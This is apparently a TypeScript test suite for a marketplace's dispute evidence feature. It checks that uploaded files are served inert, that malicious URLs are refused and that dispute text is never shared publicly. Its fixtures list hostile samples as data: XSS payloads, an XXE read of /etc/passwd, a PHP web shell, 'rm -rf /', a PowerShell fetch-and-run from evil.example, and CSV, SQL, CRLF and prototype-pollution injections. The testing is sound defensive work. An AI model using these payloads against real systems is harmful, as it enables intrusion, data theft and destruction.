import assert from 'node:assert/strict'
import { after, test } from 'node:test'
import type { Dispute } from '../../src/desks/gigs/dispute/dispute.ts'
import { fund, people, refused, went } from '../journeys/desk.ts'
import { uploaded } from '../laws/exhibits.ts'
import { ask, startTestMarket } from '../support/market.ts'
import { twoSides } from './contract-stage.ts'
import { anOperator, dispute, quarrel, respondTo, seeDispute } from './dispute-stage.ts'

const market = await startTestMarket({ worker: false })
after(() => market.close())
const olga = await anOperator(market)

const script = '<script>alert(document.domain)</script>'

/** Files that would do something if anybody's browser or shell took them for what they are. */
const files: Readonly<Record<string, string>> = {
  'page.html': `<!doctype html>${script}`,
  'page.htm': `<body onload="alert(1)">`,
  'page.xhtml': `<html xmlns="http://www.w3.org/1999/xhtml">${script}</html>`,
  'shot.svg': `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>`,
  'feed.xml': '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
  'style.css': 'body{background:url(javascript:alert(1))}',
  'code.js': 'alert(1)',
  'code.mjs': 'import "https://evil.example/x.js"',
  'page.php': '<?php system($_GET["c"]); ?>',
  'run.sh': '#!/bin/sh\nrm -rf /\n',
  'run.bat': '@echo off\r\ndel /s *',
  'run.ps1': 'iex (iwr https://evil.example)',
  'run.exe': 'MZ\x90\0\x03',
  'run.lnk': 'L\0\0\0\x01',
  'link.url': '[InternetShortcut]\r\nURL=file://evil.example/share\r\n',
  'app.hta': `<hta:application>${script}`,
  'book.csv': '=cmd|"/c calc"!A1',
  'paper.pdf': '%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>>>endobj',
  'mail.eml': 'MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n<script>',
  'picture.gif': 'GIF89a=1;alert(1)//',
  'empty.txt': '',
  '../../etc/passwd': 'a path',
  'a"; filename="b.html': 'two names',
  '\u202Egnp.exe': 'a name that reads the other way round',
  '.htaccess': 'AddType text/html .png',
}

test('files as evidence: kept as they are, given to the parties and operators as downloads that run nowhere, to nobody else', async (story) => {
  const { client: ada, worker: bob, milestone } = await quarrel(market, 'delivered')
  const [eve] = await people(market, 'Eve')
  const names = Object.keys(files)
  const ids: string[] = []
  for (const name of names) ids.push((await uploaded(market, ada, name, files[name]!)).id)
  const theirs = await uploaded(market, bob, 'mine.txt', 'of the other side')
  for (const attachment_id of [theirs.id, milestone.id])
    refused(
      await dispute(ada, 'client', milestone, { evidence: [{ type: 'other', attachment_id }] }),
      400,
      'attachment_unusable',
    )
  const twice = { type: 'other', attachment_id: ids[0] }
  refused(await dispute(ada, 'client', milestone, { evidence: [twice, twice] }), 400, 'attachment_unusable')
  const opened = went(
    await dispute(ada, 'client', milestone, {
      evidence: ids.slice(0, 20).map((attachment_id) => ({ type: 'other', attachment_id })),
    }),
    201,
  )
  refused(await respondTo(bob, opened, { evidence: [twice] }), 400, 'attachment_unusable')
  refused(
    await respondTo(bob, opened, { evidence: [{ type: 'other', attachment_id: ids[20] }] }),
    400,
    'attachment_unusable',
  )
  const { evidence } = await seeDispute(bob, opened)
  assert.deepEqual(
    evidence!.map(({ attachment }) => attachment!.id),
    ids.slice(0, 20),
  )
  // The rest is shown in another dispute: twenty are the most.
  const second = await quarrel(market, 'funded', {}, { client: ada, worker: bob })
  went(
    await dispute(ada, 'client', second.milestone, {
      evidence: ids.slice(20).map((attachment_id) => ({ type: 'screenshot', attachment_id })),
    }),
    201,
  )
  for (const [place, id] of ids.entries()) {
    const name = names[place]!
    for (const reader of [ada, bob, olga]) {
      const got = await fetch(`${market.url}/api/attachments/${id}`, {
        headers: { authorization: `Bearer ${reader.key}` },
      })
      assert.equal(got.status, 200, name)
      assert.equal(await got.text(), files[name], name)
      assert.equal(got.headers.get('content-type'), 'application/octet-stream', name)
      assert.match(
        got.headers.get('content-disposition')!,
        /^attachment; filename="[\w. -]+"; filename\*=UTF-8''[^"\s]+$/,
        name,
      )
      assert.equal(got.headers.get('x-content-type-options'), 'nosniff', name)
      assert.equal(got.headers.get('content-security-policy'), `default-src 'none'; sandbox`, name)
    }
    refused(await eve.ask('GET', `/api/attachments/${id}`), 404, 'attachment_not_found')
    assert.equal((await ask(market.url, 'GET', `/api/attachments/${id}`)).status, 401, name)
  }
  story.diagnostic(`${names.length} kinds of files served inert`)
})

/** Addresses that are none to look at, or not the ones they seem to be. */
const badUrls = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  ' javascript:alert(1)',
  'java\nscript:alert(1)',
  'java\tscript:alert(1)',
  '\u0001javascript:alert(1)',
  'javascript://example.com/%0aalert(1)',
  'data:text/html,<script>alert(1)</script>',
  'data:image/svg+xml;base64,PHN2Zz4=',
  'vbscript:msgbox(1)',
  'file:///etc/passwd',
  'ftp://example.com/a',
  'blob:https://example.com/1',
  'about:blank',
  'view-source:https://example.com',
  'chrome://settings',
  'ws://example.com',
  'mailto:ada@example.com',
  'tel:+491234',
  'intent://example.com#Intent;end',
  '//example.com/a',
  '/etc/passwd',
  'example.com/a',
  '',
  'https://',
  'https:// example.com',
  'https://exa mple.com/',
  'https://example.com/a b',
  'https://example.com\\@evil.example/',
  'https://example.com@evil.example/',
  'https://ada:secret@example.com/',
  'https://example.com/\u202Egnp.exe',
  'https://example.com/\u200b',
  'https://example.com:99999/',
  'https://[::1/',
  `https://example.com/${'a'.repeat(2_000)}`,
  42,
  { href: 'https://example.com' },
  ['https://example.com'],
] as const

/** Words that would do something if anybody ran or rendered them; they are words. */
const goodWords = [
  script,
  '"><img src=x onerror=alert(1)>',
  '{{constructor.constructor("alert(1)")()}}',
  '<%= 7*7 %>',
  "'; drop table dispute; --",
  '\u001b]0;pwned\u0007\u001b[2J',
  '\u202Ereversed',
  '=cmd|"/c calc"!A1',
  '[click](javascript:alert(1))',
  '%00%0d%0aSet-Cookie: a=b',
  '\r\nSet-Cookie: a=b',
  '😀'.repeat(2_000),
  'https://example.com/?q=<script>',
  '{"__proto__":{"operator":true}}',
  '__proto__',
] as const

test('addresses that are none are refused, words are words: whoever reads them gets JSON and nothing runs', async (story) => {
  const { client: ada, worker: bob, milestone } = await quarrel(market, 'delivered')
  for (const url of badUrls)
    refused(
      await dispute(ada, 'client', milestone, { evidence: [{ type: 'deployed_url', url }] }),
      400,
      'invalid_input',
    )
  for (const text of ['a\u0000b', 'a\ud800b', 7, null, [], { text: 'x' }]) {
    refused(await dispute(ada, 'client', milestone, { reason: text }), 400, 'invalid_input')
    refused(
      await dispute(ada, 'client', milestone, { evidence: [{ type: 'other', description: text }] }),
      400,
      'invalid_input',
    )
  }
  const opened = went(
    await dispute(ada, 'client', milestone, {
      reason: script,
      evidence: goodWords.map((description) => ({ type: 'other', description })),
    }),
    201,
  )
  const urls = [
    'http://example.com',
    'https://example.com/?q=%3Cscript%3E#a',
    'https://xn--80ak6aa92e.com/',
    'https://127.0.0.1:8080/x',
  ]
  const broken = 'https://example.com/\n<script>'
  went(await respondTo(bob, opened, { evidence: [...urls, broken].map((url) => ({ type: 'video', url })) }))
  const answer = await ada.ask<Dispute>('GET', `/api/disputes/${opened.id}?evidence=1`)
  assert.match(answer.headers.get('content-type')!, /^application\/json/)
  assert.equal(answer.headers.get('x-content-type-options'), 'nosniff')
  assert.equal(answer.headers.get('set-cookie'), null)
  const { evidence, reason } = went(answer)
  assert.equal(reason, script)
  assert.deepEqual(
    evidence!.filter(({ by }) => by === 'client').map(({ description }) => description),
    goodWords.map((words) => words.trim()),
  )
  assert.deepEqual(
    evidence!.filter(({ by }) => by === 'worker').map(({ url }) => url),
    [...urls, 'https://example.com/<script>'],
    'a line break, which a browser would leave out, is left out',
  )
  story.diagnostic(
    `${badUrls.length} addresses refused, ${goodWords.length} kinds of words and ${urls.length} addresses kept as they are`,
  )
})

test('what is said in a dispute is in no event, no list of others and no public page', async () => {
  const sides = await twoSides(market, 'Cleo', 'Dan')
  await fund(market, sides.client, 1)
  const { milestone } = await quarrel(market, 'delivered', {}, sides)
  const word = 'zanzibarwalrus'
  const opened = went(
    await dispute(sides.client, 'client', milestone, {
      reason: word,
      evidence: [{ type: 'other', description: word }],
    }),
    201,
  )
  went(await respondTo(sides.worker, opened, { evidence: [{ type: 'other', description: word }] }))
  const [told] = await market.db.rows<{ n: number }>(
    `select count(*) as n from event where data::text like '%' || $1 || '%'`,
    [word],
  )
  assert.equal(told!.n, 0)
  const [eve] = await people(market, 'Eve')
  for (const path of [
    '/api/disputes',
    '/api/contracts',
    '/api/gigs',
    `/api/disputes?contract_id=${milestone.contract_id}`,
  ])
    assert.ok(!(await eve.ask('GET', path)).text.includes(word), path)
})
